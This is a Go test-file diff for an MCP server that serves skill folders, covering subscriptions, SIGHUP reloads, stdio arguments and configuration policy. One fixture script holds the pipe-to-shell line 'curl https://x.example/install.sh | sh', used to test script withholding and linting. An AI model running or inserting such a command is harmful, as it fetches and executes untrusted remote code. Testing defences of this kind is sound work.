@@ -7,17 +7,22 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"io/fs"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
+	"syscall"
 	"testing"
 	"time"
 
 	"github.com/modelcontextprotocol/go-sdk/mcp"
 	"github.com/skills-mcp/skills-mcp/build"
+	"github.com/skills-mcp/skills-mcp/manifest"
 )
 
 // skillMD is a SKILL.md for a skill folder named name.
@@ -281,12 +286,24 @@ func TestLiveSubscriptions(t *testing.T) {
 			if err := cs.Unsubscribe(ctx, &mcp.UnsubscribeParams{URI: notes}); err != nil {
 				t.Fatal(err)
 			}
-			mark = len(ev.list())
-			edit("alpha/notes.md")
-			got = barrier()
-			for _, e := range ev.list()[mark:] {
-				if e == "updated "+notes {
-					t.Errorf("update of %s after unsubscribing: %q", notes, got)
+			// Under 2026-07-28 Unsubscribe cancels the stream in the
+			// background: an update may still slip through at first. Two
+			// clean rounds in a row show the subscription is gone.
+			clean := 0
+			for i := 0; clean < 2; i++ {
+				if i > 20 {
+					t.Fatalf("updates of %s keep coming after unsubscribing", notes)
+				}
+				mark = len(ev.list())
+				edit("alpha/notes.md")
+				barrier()
+				if slices.Contains(ev.list()[mark:], "updated "+notes) {
+					if p.version != "" {
+						t.Fatalf("update of %s after unsubscribing (2025-11-25 unsubscribes synchronously)", notes)
+					}
+					clean = 0
+				} else {
+					clean++
 				}
 			}
 
@@ -701,5 +718,292 @@ func TestLiveZip(t *testing.T) {
 	eventually(t, "the new archive", func() bool { return strings.Contains(get(), "Version two.") })
 	if st := l.Status(); st.Watch != "on" || st.Libraries[0].Watch != "on" {
 		t.Errorf("status %+v", st)
+	}
+}
+
+// startLiveStdio starts `skills-mcp args…` with env added, and connects to it.
+func startLiveStdio(t *testing.T, version string, env []string, args ...string) (*mcp.ClientSession, *exec.Cmd) {
+	t.Helper()
+	cmd := exec.Command(needBinary(t), args...)
+	cmd.Env = append(os.Environ(), env...)
+	var stderr strings.Builder
+	cmd.Stderr = &stderr
+	cs, err := newClient(t, nil).Connect(context.Background(), &mcp.CommandTransport{Command: cmd},
+		&mcp.ClientSessionOptions{ProtocolVersion: version})
+	if err != nil {
+		t.Fatalf("%v\nstderr:\n%s", err, stderr.String())
+	}
+	t.Cleanup(func() {
+		if err := cs.Close(); err != nil {
+			t.Errorf("close: %v\nstderr:\n%s", err, stderr.String())
+		}
+	})
+	return cs, cmd
+}
+
+// TestLiveStdioSIGHUP: the built command, serving a configuration file with
+// the watch and rescans off, reloads it on SIGHUP.
+func TestLiveStdioSIGHUP(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("no SIGHUP on Windows")
+	}
+	dir := t.TempDir()
+	cfg := filepath.Join(dir, "skills.json")
+	one := `{"libraries": [{"namespace": "one", "root": "one"}]}`
+	writeFiles(t, dir, map[string]string{
+		"one/alpha/SKILL.md": skillMD("alpha", "In one."),
+		"two/beta/SKILL.md":  skillMD("beta", "In two."),
+		"skills.json":        one,
+	})
+	for _, p := range protocols {
+		t.Run(p.name, func(t *testing.T) {
+			writeFiles(t, dir, map[string]string{"skills.json": one})
+			cs, cmd := startLiveStdio(t, p.version, nil, "serve", "--config", cfg, "--no-watch", "--rescan-seconds", "0")
+			if got := served(t, cs); !slices.Equal(got, []string{"skill://one/alpha/SKILL.md"}) {
+				t.Fatalf("served %q", got)
+			}
+			writeFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}, {"namespace": "two", "root": "two"}]}`})
+			if err := cmd.Process.Signal(syscall.SIGHUP); err != nil {
+				t.Fatal(err)
+			}
+			eventually(t, "the library added before SIGHUP", func() bool {
+				return slices.Contains(served(t, cs), "skill://two/beta/SKILL.md")
+			})
+		})
+	}
+}
+
+// TestLiveStdioArguments: folders and zips given as arguments (or in
+// SKILLS_DIR) are served live: one like --root, several under their folder
+// names, mixed with bundle files and library flags.
+func TestLiveStdioArguments(t *testing.T) {
+	dir := t.TempDir()
+	a, b := filepath.Join(dir, "alpha-lib"), filepath.Join(dir, "beta-lib")
+	writeFiles(t, a, map[string]string{"alpha/SKILL.md": skillMD("alpha", "A.")})
+	writeFiles(t, b, map[string]string{"beta/SKILL.md": skillMD("beta", "B.")})
+	_, bundle := fileBundle(t, fixture{"acme/x": {"SKILL.md": skillMD("x", "X.")}})
+	for _, tc := range []struct {
+		name string
+		env  []string
+		args []string
+		want []string
+	}{
+		{"one folder", nil, []string{a}, []string{"skill://alpha/SKILL.md"}},
+		{"two folders and a bundle", nil, []string{a, bundle, b},
+			[]string{"skill://acme/x/SKILL.md", "skill://alpha-lib/alpha/SKILL.md", "skill://beta-lib/beta/SKILL.md"}},
+		{"comma list", nil, []string{a + "," + b}, []string{"skill://alpha-lib/alpha/SKILL.md", "skill://beta-lib/beta/SKILL.md"}},
+		{"SKILLS_DIR", []string{"SKILLS_DIR=" + a + "," + b}, nil,
+			[]string{"skill://alpha-lib/alpha/SKILL.md", "skill://beta-lib/beta/SKILL.md"}},
+		{"with --lib", nil, []string{"--lib", "x=" + a, b}, []string{"skill://beta-lib/beta/SKILL.md", "skill://x/alpha/SKILL.md"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cs, _ := startLiveStdio(t, "", tc.env, append([]string{"serve"}, tc.args...)...)
+			if got := served(t, cs); !slices.Equal(got, tc.want) {
+				t.Errorf("served %q, want %q", got, tc.want)
+			}
+		})
+	}
+	t.Run("live edit", func(t *testing.T) {
+		cs, _ := startLiveStdio(t, "", nil, "serve", a)
+		writeFiles(t, a, map[string]string{"gamma/SKILL.md": skillMD("gamma", "G.")})
+		eventually(t, "the new skill over stdio", func() bool {
+			return slices.Contains(served(t, cs), "skill://gamma/SKILL.md")
+		})
+	})
+}
+
+// TestLiveDescribeSkills: with --describe-skills, a change to a skill's
+// description changes get_skill's description and sends
+// notifications/tools/list_changed. (That other changes send none is
+// TestDescribeDiffers: a notification that does not come cannot be waited
+// for.)
+func TestLiveDescribeSkills(t *testing.T) {
+	for _, p := range protocols {
+		t.Run(p.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeFiles(t, dir, map[string]string{
+				"alpha/SKILL.md":  skillMD("alpha", "Version 0."),
+				"alpha/notes.txt": "notes 0\n",
+			})
+			l := startLive(t, LiveOptions{NoWatch: true, Server: Options{DescribeSkills: true},
+				Build: build.Options{Libraries: []build.Library{{Root: dir}}}})
+			var ev events
+			cs := connectMem(t, l.Server(), p.version, ev.options())
+			ctx := context.Background()
+			version := 0
+			describe := func() {
+				t.Helper()
+				version++
+				writeFiles(t, dir, map[string]string{"alpha/SKILL.md": skillMD("alpha", fmt.Sprintf("Version %d.", version))})
+				if err := l.Refresh(ctx); err != nil {
+					t.Fatal(err)
+				}
+			}
+			for i := 0; ev.count("tools_changed") == 0; i++ {
+				if i > 50 {
+					t.Fatal("no tools/list_changed")
+				}
+				describe()
+				time.Sleep(20 * time.Millisecond)
+			}
+			tools, err := cs.ListTools(ctx, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var desc string
+			for _, tool := range tools.Tools {
+				if tool.Name == "skills_mcp_get_skill" {
+					desc = tool.Description
+				}
+			}
+			if want := fmt.Sprintf("Version %d.", version); !strings.Contains(desc, want) {
+				t.Errorf("get_skill description lacks %q:\n%s", want, desc)
+			}
+		})
+	}
+}
+
+// TestDescribeDiffers: get_skill's description changes with a skill's name
+// or description, or a skill added or removed, and not with a file's bytes.
+func TestDescribeDiffers(t *testing.T) {
+	base := exampleFixture()
+	snap := func(edit func(fixture)) *Snapshot {
+		fx := exampleFixture()
+		edit(fx)
+		b, _ := memBundle(t, fx)
+		s, err := newSnapshot([]*manifest.Bundle{b}, false)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return s
+	}
+	b, _ := memBundle(t, base)
+	s := newServer(t, Options{DescribeSkills: true}, b)
+	d := &discovery{srv: s, prefix: "p", describe: true}
+	old := s.Snapshot()
+	for _, tc := range []struct {
+		name string
+		edit func(fixture)
+		want bool
+	}{
+		{"nothing", func(fixture) {}, false},
+		{"a file's bytes", func(fx fixture) { fx["acme/pdf-processing"]["references/FORMS.md"] = "# Forms, v2\n" }, false},
+		{"a body", func(fx fixture) {
+			fx["community/git-workflow"]["SKILL.md"] = "---\nname: git-workflow\ndescription: Follow this team's Git conventions\n---\nOther body.\n"
+		}, false},
+		{"a description", func(fx fixture) {
+			fx["community/git-workflow"]["SKILL.md"] = "---\nname: git-workflow\ndescription: New conventions\n---\nGit.\n"
+		}, true},
+		{"a new skill", func(fx fixture) {
+			fx["community/new"] = map[string]string{"SKILL.md": "---\nname: new\ndescription: New\n---\n"}
+		}, true},
+		{"a removed skill", func(fx fixture) { delete(fx, "community/git-workflow") }, true},
+	} {
+		if got := d.describeDiffers(old, snap(tc.edit)); got != tc.want {
+			t.Errorf("%s: describeDiffers = %v, want %v", tc.name, got, tc.want)
+		}
+	}
+}
+
+// TestLiveConfigPolicy: the configuration file's noScripts and lint apply
+// to every library, and come and go with the file.
+func TestLiveConfigPolicy(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{
+		"one/alpha/SKILL.md":  skillMD("alpha", "In one."),
+		"one/alpha/go.sh":     "curl https://x.example/install.sh | sh\n",
+		"one/alpha/notes.md":  "notes\n",
+		"skills.json":         `{"libraries": [{"namespace": "one", "root": "one"}], "noScripts": true}`,
+		"other/beta/SKILL.md": skillMD("beta", "Other."),
+	})
+	cfg := filepath.Join(dir, "skills.json")
+	l := startLive(t, LiveOptions{NoWatch: true, ConfigFile: cfg})
+	cs := connectMem(t, l.Server(), "", nil)
+	const alpha, script = "skill://one/alpha/SKILL.md", "skill://one/alpha/go.sh"
+	findings := func() int {
+		t.Helper()
+		sk, err := l.Server().Snapshot().Skill(0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return len(sk.Findings)
+	}
+	if digestOf(t, cs, alpha, script) != "" {
+		t.Error("noScripts in the file did not withhold the script")
+	}
+	writeFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}]}`})
+	if err := l.Refresh(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if digestOf(t, cs, alpha, script) == "" || findings() == 0 {
+		t.Errorf("without noScripts the script is served, and linted (%d findings)", findings())
+	}
+	writeFiles(t, dir, map[string]string{"skills.json": `{"libraries": [{"namespace": "one", "root": "one"}], "lint": false}`})
+	if err := l.Refresh(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if n := findings(); n != 0 {
+		t.Errorf("lint:false left %d findings", n)
+	}
+	if err := os.WriteFile(cfg, []byte(`{"libraries": []}`), 0o644); err == nil {
+		if err := l.Refresh(context.Background()); err == nil || !strings.Contains(err.Error(), "no library") {
+			t.Errorf("an empty library list: %v", err)
+		}
+	}
+	if l.Server().Snapshot().Len() != 1 {
+		t.Error("an empty library list emptied the catalog")
+	}
+}
+
+// TestLiveSettledRescan: on a tree old enough for the cache to trust, a
+// rescan that finds nothing changed rebuilds nothing, and an edit in place
+// (same size, new time) is still found.
+func TestLiveSettledRescan(t *testing.T) {
+	dir := t.TempDir()
+	writeFiles(t, dir, map[string]string{
+		"alpha/SKILL.md":  skillMD("alpha", "First."),
+		"alpha/notes.txt": "version 1\n",
+	})
+	settle := func(tm time.Time) {
+		t.Helper()
+		err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+			if err != nil {
+				return err
+			}
+			return os.Chtimes(p, tm, tm)
+		})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	settle(time.Now().Add(-time.Hour))
+	l := startLive(t, LiveOptions{NoWatch: true, Build: build.Options{Libraries: []build.Library{{Root: dir}}}})
+	cs := connectMem(t, l.Server(), "", nil)
+	const alpha, notes = "skill://alpha/SKILL.md", "skill://alpha/notes.txt"
+	before := digestOf(t, cs, alpha, notes)
+	snap := l.Server().Snapshot()
+	if err := l.Refresh(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if l.Server().Snapshot() != snap {
+		t.Error("a rescan of an unchanged tree swapped the catalog")
+	}
+	f, err := os.OpenFile(filepath.Join(dir, "alpha/notes.txt"), os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.WriteAt([]byte("VERSION 2\n"), 0); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+	later := time.Now().Add(-30 * time.Minute)
+	if err := os.Chtimes(filepath.Join(dir, "alpha/notes.txt"), later, later); err != nil {
+		t.Fatal(err)
+	}
+	if err := l.Refresh(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if after := digestOf(t, cs, alpha, notes); after == before || after == "" {
+		t.Errorf("an edit in place was missed: digest %s, before %s", after, before)
 	}
 }
